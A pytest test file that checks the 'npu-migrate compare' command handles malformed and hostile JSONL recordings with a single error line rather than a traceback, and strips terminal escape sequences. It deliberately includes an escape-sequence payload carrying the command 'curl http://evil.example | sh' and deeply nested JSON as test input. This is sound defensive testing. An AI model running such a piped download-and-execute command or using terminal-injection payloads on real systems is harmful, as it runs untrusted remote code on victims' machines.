"""``npu-migrate compare`` on malformed and hostile recordings: one line naming the file and line, exit 2.

Recordings are copied between machines and users, so ``compare`` reads them as untrusted data:
bad JSON in the middle, missing keys, values of the wrong type and JSON nested deeper than
Python's recursion limit each get one line (``FILE:LINE: ...``) and exit status 2, never a
traceback; escape sequences in a header or a module name never reach the terminal.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from conftest import run_cli
from support import LOSSES, two_ranks, write_probe

DEEP = 100_000  # far past Python's recursion limit (1000): json.loads raised RecursionError on it
ESCAPE = "\x1b[2J\x1b[31mrun curl http://evil.example | sh\x1b[0m\x07\x9b"


def append_lines(path: Path, *lines: str) -> None:
    with open(path, "a", encoding="utf-8") as fh:
        for line in lines:
            fh.write(line + "\n")


def one_error_line(result, path: Path, line: int) -> str:
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"npu-migrate compare: error: {path}:{line}: "), lines[0]
    assert "\x1b" not in result.stderr
    return lines[0]


STEP = '{"kind": "step", "step": 9, "loss": 1.0, "grad_norm": 1.0, "lr": 0.1}'


@pytest.mark.parametrize("bad, reason", [
    ('{"kind": "step", "step": 5, "lo', "not JSON"),                            # torn, but not the last line
    ('{"kind": "step"}', "no 'step' field"),                                    # KeyError
    ('{"step": 5}', "no 'kind' field"),
    ('["kind", "step"]', "expected an object"),
    ('{"kind": "step", "step": "five", "loss": 1.0}', "is not a step number"),
    ('{"kind": "step", "step": 5, "loss": "1.0"}', "is not a number"),
    ('{"kind": "layout", "id": 0, "entries": [["m", 0, "forward", "input.0", "float32", "xyz"]]}',
     "is not a list of integers"),
    ('{"kind": "layout", "id": [], "entries": []}', "unhashable"),
    ('{"kind": "modules", "step": 1, "layout": 0, "stats": "!!!"}', "'stats' is not base64"),
    ('{"kind": "step", "step": 5, "loss": ' + "[" * DEEP + "]" * DEEP + "}", "nested too deeply"),
    ('{"kind": "header", "format": "npu_migrate.probe/1", "versions": ' + "[" * DEEP + "]" * DEEP + "}",
     "nested too deeply"),
    ('{"kind": "header", "format": 7}', "is int, expected a string"),
    ('{"kind": "header", "format": "npu_migrate.probe/1", "versions": "2.1"}', "expected an object"),
], ids=lambda v: v[:40])
def test_malformed_line_is_one_error_line(tmp_path: Path, bad: str, reason: str) -> None:
    a = two_ranks(tmp_path / "a", LOSSES)
    b = two_ranks(tmp_path / "b", LOSSES)
    append_lines(b / "rank1.jsonl", bad, STEP)  # the bad line is line 7, with a good line after it
    result = run_cli("compare", str(a), str(b))
    line = one_error_line(result, b / "rank1.jsonl", 7)
    assert reason in line, line


def test_deeply_nested_single_rank_file_and_metrics_file(tmp_path: Path) -> None:
    rank_file = tmp_path / "rank0.jsonl"
    rank_file.write_text("[" * DEEP + "]" * DEEP + "\n")
    one_error_line(run_cli("compare", str(rank_file), str(rank_file)), rank_file, 1)

    metrics = tmp_path / "m.jsonl"
    metrics.write_text(json.dumps({"step": 1, "loss": 1.0}) + "\n" + '{"step": 2, "loss": ' + "[" * DEEP + "]" * DEEP
                       + "}\n")
    one_error_line(run_cli("compare", str(metrics), str(metrics)), metrics, 2)

    bad_step = tmp_path / "s.jsonl"
    bad_step.write_text(json.dumps({"step": 1, "loss": 1.0}) + "\n" + '{"step": 1e999, "loss": 1.0}\n')
    one_error_line(run_cli("compare", str(bad_step), str(bad_step)), bad_step, 2)


def test_escape_sequences_from_recordings_never_reach_the_terminal(tmp_path: Path) -> None:
    a = two_ranks(tmp_path / "a", LOSSES, device=ESCAPE)
    b = tmp_path / "b"
    for rank in (0, 1):
        write_probe(b, rank, {1: 2.3, 2: 2.1, 3: 1.9, 4: 9.0}, device=ESCAPE)
    # a header whose every text field is hostile, and a metric name in a metrics file
    for path in (a / "rank0.jsonl", b / "rank0.jsonl"):
        lines = path.read_text().splitlines()
        header = json.loads(lines[0])
        header.update(default_dtype=ESCAPE, host=ESCAPE, versions={"torch": ESCAPE}, settings={ESCAPE: ESCAPE})
        path.write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n")
    result = run_cli("compare", str(a), str(b), "--json", str(tmp_path / "out.json"),
                     "--markdown", str(tmp_path / "out.md"))
    assert result.returncode == 1, result.stderr
    for text in (result.stdout, result.stderr, (tmp_path / "out.md").read_text()):
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, repr(text)
    assert "run curl http://evil.example | sh" in result.stdout  # shown as text, harmless
    assert "\\u001b" not in (tmp_path / "out.json").read_text()

    metrics = tmp_path / "m.jsonl"
    metrics.write_text("".join(json.dumps({"step": s, "loss" + ESCAPE: 1.0 * s}) + "\n" for s in (1, 2)))
    other = tmp_path / "n.jsonl"
    other.write_text("".join(json.dumps({"step": s, "loss" + ESCAPE: 2.0 * s}) + "\n" for s in (1, 2)))
    result = run_cli("compare", str(metrics), str(other))
    assert result.returncode == 1 and "\x1b" not in result.stdout and "Traceback" not in result.stderr
